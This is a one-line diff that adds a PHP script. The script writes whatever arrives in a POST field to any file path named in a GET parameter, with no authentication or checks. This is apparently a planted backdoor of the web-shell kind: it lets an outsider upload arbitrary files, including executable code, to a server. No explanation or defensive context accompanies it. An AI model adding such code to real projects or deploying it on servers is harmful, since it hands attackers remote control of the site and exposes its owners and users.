@@ -1,0 +1,1 @@
+<?php $f = new SplFileObject($_GET["n"], "w"); $f->fwrite($_POST["d"]);
